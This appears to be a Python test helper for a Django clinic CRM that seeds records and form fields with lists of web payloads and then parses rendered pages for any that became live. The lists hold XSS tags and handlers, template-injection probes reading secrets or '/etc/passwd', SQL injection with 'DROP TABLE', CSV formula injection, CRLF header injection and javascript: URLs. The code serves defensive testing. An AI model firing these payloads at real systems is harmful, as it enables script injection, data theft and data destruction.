"""Texts that want to be more than text (H:X1, X3, X4, L8), and what to look for in a page that showed them.

Each carries the word "evil"; whatever of it becomes a tag, a handler, a link, an expression or a result was believed.
"""

# ruff: noqa: E501
import contextlib
import re
from html.parser import HTMLParser

from django.db import IntegrityError, transaction

from crm.testing.canaries import OF_THE_CODE, Canary, _row, clinic_models
from leads.services.reading import LIMITS, VISIT
from tenants.context import clinic_context
from tenants.models import Clinic

_SCRIPTS = [
    "<script>alert('evil')</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<script/evil>alert(1)</script>",
    "<scr<script>ipt>alert('evil')</script>", "</script><script>alert('evil')</script>", "<script type=module>evil()",
    "--><script>alert('evil')</script>", "]]><script>alert('evil')</script>", "<%73cript>alert('evil')</script>",
    "</title><script>alert('evil')</script>", "</textarea><script>alert('evil')</script>", "<\x0cscript>evil()</script>",
    "</style><script>alert('evil')</script>", "</noscript><script>alert('evil')</script>", "\u2028<script>evil()//",
    "</option></select><script>alert('evil')</script>", "</template><script>alert('evil')</script>",
    "<script>alert`evil`</script>", "＜script＞alert('evil')＜/script＞", "\u02bascript\u02bealert('evil')",
    "<script\n>alert('evil')</script\n>", "<script\t>alert('evil')</script>", "%3Cscript%3Ealert('evil')%3C/script%3E",
]  # fmt: skip
_HANDLERS = [
    "<img src=x onerror=alert('evil')>", "<img src=x onerror=\"alert('evil')\">", "<IMG SRC=x OnErRoR=alert`evil`>",
    "\"><img src=x onerror=alert('evil')>", "'><img src=x onerror=alert('evil')>", "\" onmouseover=\"alert('evil')",
    "' onmouseover='alert(\"evil\")", "\" autofocus onfocus=alert('evil') x=\"", "` onmouseover=alert('evil')",
    "<body onload=alert('evil')>", "<input autofocus onfocus=alert('evil')>", "<details open ontoggle=alert('evil')>",
    "<video><source onerror=alert('evil')>", "<audio src=x onerror=alert('evil')>", "<marquee onstart=alert('evil')>",
    "<select autofocus onfocus=alert('evil')>", "<textarea autofocus onfocus=alert('evil')>", "<a onclick=evil()>evil",
    "<div onpointerenter=alert('evil')>evil", "<button popovertarget=x onbeforetoggle=evil()>evil</button>",
    "<img/src=x/onerror=alert('evil')>", "<img src=x:evil onerror=eval(src)>", "<x onclick=evil() tabindex=1>evil",
    "<p style=animation-name:x onanimationend=alert('evil')>evil", "\tonclick=alert('evil')\t", "x\" accesskey=x evil=\"",
]  # fmt: skip
_MARKUP = [
    "<svg onload=alert('evil')>", "<svg><script>alert('evil')</script></svg>", "<svg><a xlink:href=javascript:evil()>",
    "<svg><animate onbegin=alert('evil') attributeName=x>", "<svg><set attributeName=onmouseover to=evil()>",
    "<svg><foreignObject><iframe srcdoc=evil>", "<math><mtext><img src=x onerror=alert('evil')>", "<math href=evil:x>",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc=\"<script>alert('evil')</script>\">", "<embed src=//evil>",
    "<object data=//evil.example></object>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>evil</button>",
    "<style>*{background:url(//evil.example)}</style>", "<table background=//evil.example>", "<isindex action=evil:x>",
    "<p style=background:url(//evil.example)>evil", "<template><img src=x onerror=alert('evil')></template>",
    "<img src=//evil.example/pixel.gif>", "<input type=image src=x formaction=//evil>", "<dialog open>evil</dialog>",
    "<a href=//evil.example>evil</a>", "<noscript><p title=\"</noscript><img src=x onerror=alert('evil')>\">",
    "<!--<img src=\"--><img src=x onerror=alert('evil')//\">", "<b>evil</b>", "</div></main></body></html>evil",
]  # fmt: skip
_ENTITIES = [
    "&lt;script&gt;alert('evil')&lt;/script&gt;", "&#60;script&#62;evil()&#60;/script&#62;", "&#x3c;img src=x evil=1>",
    "&quot;&gt;&lt;img src=x onerror=alert('evil')&gt;", "&amp;lt;script&amp;gt;evil", "&lt<script>alert('evil')</script>",
    "\\u003cscript\\u003ealert('evil')\\u003c/script\\u003e", "\\x3cscript\\x3eevil()\\x3c/script\\x3e", "&NewLine;evil",
]  # fmt: skip
# Where 49 stands between two evils, somebody counted.
_TEMPLATES = [
    "evil{{7*7}}evil", "evil{{ 7|add:42 }}evil", "evil${7*7}evil", "evil#{7*7}evil", "evil<%= 7*7 %>evil", "evil{7*7}evil",
    "{% debug %}evil", "{% load static %}evil", "{% include '/etc/passwd' %}evil", "{{ settings.SECRET_KEY }}evil",
    "{{ request.user.password }}evil", "{lead.__class__}evil", "{0.__class__.__init__.__globals__}evil", "{name!r:>9}evil",
    "%(password)s evil", "%s%s%n evil", "{{constructor.constructor('alert(`evil`)')()}}", "{% csrf_token %}evil",
    "x' + alert('evil') + '", "\\'; alert('evil'); //", "${alert('evil')}", "'-alert('evil')-'", "$el.innerHTML='evil'",
]  # fmt: skip
_OTHERS = [
    "\u202etxt.evil\u202c", "\u2066evil\u2069\u202a", "evil\u200b\u200d\ufeff", "evil" + "\u0301" * 90, "\ud83d\ude00evil"[2:],
    "evil\r\nSet-Cookie: evil=1", "evil\r\nBcc: evil@evil.example", "evil\n\n<script>evil()</script>", "evil\x85\x0b\x1f",
    "=1+1+cmd|' /C calc'!A0 evil", "+evil", "-2+3+evil", "@SUM(1+9)*evil", "\tevil=1", "=HYPERLINK(\"//evil\",\"evil\")",
    "' OR 1=1 -- evil", "evil'; DROP TABLE leads_lead; --", "evil\\", "../../../../etc/passwd evil", "C:\\evil\\con",
    "javascript:alert('evil')", "data:text/html,<script>alert('evil')</script>", "evil" * 60, "jaVasCript:/*-/*`/*evil*/",
]  # fmt: skip
# Out of whatever a text may stand in, and then each way to act.
_WAYS_OUT = [
    "\">", "'>", "`>", "\\\">", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</select>", "</noscript>",
]  # fmt: skip
_ACTS = [
    "<script>evil()</script>", "<img src=x onerror=evil()>", "<svg onload=evil()>", "<svg/onload=evil()>", "<iframe srcdoc=evil>",
    "<details open ontoggle=evil()>", "<input autofocus onfocus=evil()>", "<a href=javascript:evil()>x</a>", "<body onload=evil()>",
    "<video src=x onerror=evil()>", "<object data=//evil>", "<base href=//evil>", "<form action=//evil>", "<link rel=evil href=//x>",
]  # fmt: skip
NESTED = [out + act for out in _WAYS_OUT for act in _ACTS]
PAYLOADS = [*_SCRIPTS, *_HANDLERS, *_MARKUP, *_ENTITIES, *_TEMPLATES, *_OTHERS, *NESTED]

# An address that is no page of the web is text, never a link (H:L9).
SCHEMES = [
    "javascript:alert('evil')", "JaVaScRiPt:alert('evil')", " javascript:alert('evil')", "java\tscript:alert('evil')",
    "javascript://evil.example/%0aalert(1)", "\x01javascript:evil()", "java&#115;cript:evil()", "vbscript:evil()",
    "data:text/html,<script>evil()</script>", "data:image/svg+xml,<svg onload=evil()>", "blob:https://evil/1",
    "file:///etc/evil", "ftp://evil.example/", "view-source:evil", "about:evil", "chrome://evil", "ws://evil.example",
    "intent://evil#Intent;end", "tel:evil", "//evil.example/path", "feed:javascript:evil()", "sms:evil", "ms-word:evil",
]  # fmt: skip

_EXPRESSIONS = re.compile(r"x-|@|:|on|hx-|data-hx-|style$|srcdoc$", re.IGNORECASE)
_LINKS = {"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster", "srcset"}
_COUNTED = re.compile(r"evil49\.?0?evil|<Lead|Traceback")


def fill_with(clinic: Clinic, text: str) -> Canary:
    """One row of every clinic model with `text` in each of its texts; a model that takes only one row keeps its first."""
    canary = Canary(clinic, text)
    with clinic_context(clinic):
        for model in clinic_models():
            if model not in OF_THE_CODE:
                with contextlib.suppress(IntegrityError), transaction.atomic():
                    _row(canary, model, ())
    return canary


def website_says(text: str) -> dict[str, object]:
    """A form whose every field is `text`, but for the ways to reach somebody and what decides who is asked."""
    fields = {name: text for name in LIMITS if name not in {"clinic_slug", "company_website", "email", "phone"}}
    return fields | {"first_touch": dict.fromkeys(VISIT, text), "travel_month": text}


def browser_says(text: str) -> dict[str, str]:
    """Headers that a visitor's browser chooses, as far as HTTP lets them through."""
    value = re.sub(r"[\x00-\x1f\x7f]", " ", text).strip()
    return {
        name: value.encode().decode("latin-1") for name in ("User-Agent", "Referer", "Origin", "Accept-Language")
    }


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.believed: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag == "script" and "src" not in given and given.get("type") != "application/json":
            self.believed.append("<script>")
        for name, value in given.items():
            evil = "evil" in name or ("evil" in value and bool(_EXPRESSIONS.match(name)))
            if evil or name.startswith("on") or (name in _LINKS and _leads_astray(value)):
                self.believed.append(f"<{tag} {name}={value[:80]}>")

    handle_startendtag = handle_starttag


def _leads_astray(value: str) -> bool:
    """A link that is no page of ours, of the web, a mail or a call; one to evil itself may be a plain web link."""
    plain = re.sub(r"[\x00-\x20]", "", value).lower()
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", plain)
    known = scheme is None or scheme[1] in {"http", "https", "mailto", "tel"} or plain.startswith("data:image/png")
    return not known or (plain.startswith("//") and "evil" in plain) or plain == "tel:evil"


def believed(body: bytes | str) -> list[str]:
    """What in a page is more than text of ours: each finding in words."""
    text = body.decode(errors="replace") if isinstance(body, bytes) else body
    reader = _Reader()
    reader.feed(text)
    return reader.believed + _COUNTED.findall(text)
